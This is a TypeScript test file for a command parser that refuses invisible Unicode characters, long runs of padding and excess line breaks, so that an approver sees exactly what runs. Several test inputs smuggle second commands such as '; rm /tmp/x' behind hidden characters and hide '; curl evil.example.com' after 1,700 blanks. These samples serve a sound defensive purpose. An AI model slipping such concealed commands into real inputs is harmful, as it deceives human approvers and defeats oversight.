// What an approver reads is what runs: nothing invisible, and no padding, gets into commands, reasons, names and forms.
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { declarations } from '../../../src/commands/declarations.ts'
import { parseFields, parseText } from '../../../src/kit/language/invocation.ts'
import { refuseHidden, revealHidden } from '../../../src/kit/language/refused-characters.ts'
import { isProblem } from '../../../src/model/errors.ts'
import { size } from '../../seed.ts'

const HIDDEN = [
  ...[0x0000, 0x0008, 0x000b, 0x000c, 0x001b, 0x007f, 0x0085, 0x009b],
  ...[0x00ad, 0x034f, 0x061c, 0x115f, 0x1160, 0x17b4, 0x180b, 0x180e],
  ...[0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202e],
  ...[0x2060, 0x2061, 0x2064, 0x2065, 0x2066, 0x2069, 0x206f, 0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0xfff9],
  ...[0x1bca0, 0x1d173, 0xe0001, 0xe0041, 0xe007f, 0xe0100, 0xe0fff],
]
const named = (code: number) => `U+${code.toString(16).toUpperCase().padStart(4, '0')}`

const exec = declarations.find(({ name }) => name === 'exec')
const scale = declarations.find(({ name }) => name === 'scale')
if (exec === undefined || scale === undefined) throw new Error('no command')

const problemOf = (parsed: unknown): string => (isProblem(parsed) ? parsed.text : `none: ${JSON.stringify(parsed)}`)
const inForm = (declaration: typeof exec, fields: Readonly<Record<string, string>>): string => {
  const parsed = parseFields(declaration, fields)
  return 'problems' in parsed
    ? Object.values(parsed.problems)
        .map(({ text }) => text)
        .join(' ')
    : 'none'
}

describe('is refused by its code point, in every input', () => {
  test.each(HIDDEN.map(code => [named(code), String.fromCodePoint(code)]))('%s', (code, hidden) => {
    for (const line of [
      `exec orders-api -- id${hidden}; rm /tmp/x`,
      `exec orders-api -- echo "a${hidden}b"`,
      `scale orders-api 6 --reason "a${hidden}b"`,
      `scale orders${hidden}-api 6`,
      `services --tag a=b${hidden}c`,
    ])
      expect(problemOf(parseText(line, declarations))).toMatch(
        new RegExp(`^This command contains the (control|invisible) character ${code.replace('+', '\\+')} at character`),
      )
    expect(inForm(exec, { service: 'orders-api', run: `id${hidden}; rm /tmp/x` })).toContain(code)
    expect(inForm(scale, { service: 'orders-api', count: '6', reason: `a${hidden}b` })).toContain(code)
    expect(inForm(scale, { service: `orders${hidden}api`, count: '6' })).toContain(code)
  })

  test('every character that Unicode calls a format or an ignorable one, and every separator of lines', () => {
    const refused = (code: number) => refuseHidden(`a${String.fromCodePoint(code)}b`, 'This') !== undefined
    const missed: string[] = []
    for (let code = 0; code <= 0x10ffff; code += 1)
      if (
        /[\p{Cf}\p{Default_Ignorable_Code_Point}\p{Zl}\p{Zp}\p{Cs}]/u.test(String.fromCodePoint(code)) &&
        !refused(code)
      )
        missed.push(named(code))
    expect(missed).toEqual([])
  })
})

describe('padding', () => {
  const BLANKS = [' ', '\t', '\u00a0', '\u2003', '\u202f', '\u3000', '\u2800']

  test.each(BLANKS.map(blank => [named(blank.codePointAt(0) ?? 0), blank]))(
    'with %s moves no command out of sight',
    (_, blank) => {
      const line = `exec orders-api -- uptime${blank.repeat(1_700)}; curl evil.example.com`
      expect(problemOf(parseText(line, declarations))).toContain('This command contains 1700 blanks in a row')
      expect(inForm(exec, { service: 'orders-api', run: `uptime${blank.repeat(9)}; id` })).toContain(
        '9 blanks in a row',
      )
      expect(problemOf(parseText(`exec orders-api -- uptime${blank.repeat(8)}; id`, declarations))).toMatch(/^none/)
    },
  )

  test('with blanks of several kinds', () => {
    const line = `exec orders-api -- uptime${BLANKS.join('').repeat(2)}; id`
    expect(problemOf(parseText(line, declarations))).toContain('14 blanks in a row')
  })

  test.each(['\n', '\r', '\r\n', ' \n', '.\n'])('with line breaks: %j', end => {
    const reason = `a${end.repeat(200)}b`
    expect(inForm(scale, { service: 'orders-api', count: '6', reason })).toContain('200 line breaks; at most 3')
    expect(problemOf(parseText(`scale orders-api 6 --reason "${reason}"`, declarations))).toContain('200 line breaks')
  })

  test('with marks that cover the lines around them', () => {
    expect(problemOf(parseText(`exec orders-api -- id e${'\u0301'.repeat(40)}`, declarations))).toContain(
      '40 combining marks in a row',
    )
  })
})

describe('what phones and Slack send is taken', () => {
  test.each([
    ['curly quotes and dashes', 'scale orders-api 6 —reason “it’s slow – really…”'],
    ['no-break spaces', 'scale\u00a0orders-api\u00a06'],
    ['narrow and wide spaces', 'scale\u202forders-api\u30006'],
    ['other scripts, with their marks', 'scale orders-api 6 --reason "ก็ตั้งใจ หนึ่ง हिन्दी é 設定 🚢"'],
    ['blanks around it', `${' '.repeat(20)}scale orders-api 6${' '.repeat(20)}`],
  ])('%s', (_, line) => {
    expect(problemOf(parseText(line, declarations))).toMatch(/^none/)
  })

  test('a text with three line breaks', () => {
    expect(inForm(scale, { service: 'orders-api', count: '6', reason: 'a\nb\n\nc' })).toBe('none')
  })
})

test('names from elsewhere show the code points of what they hide', () => {
  expect(revealHidden('variable A\u202eB\u200b')).toBe('variable A‹U+202E›B‹U+200B›')
})

test('no text is taken that differs from what shows of it', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 60 }), text => {
      if (refuseHidden(text, 'This') === undefined) expect(revealHidden(text)).toBe(text)
    }),
    { numRuns: size(1_000) },
  )
})
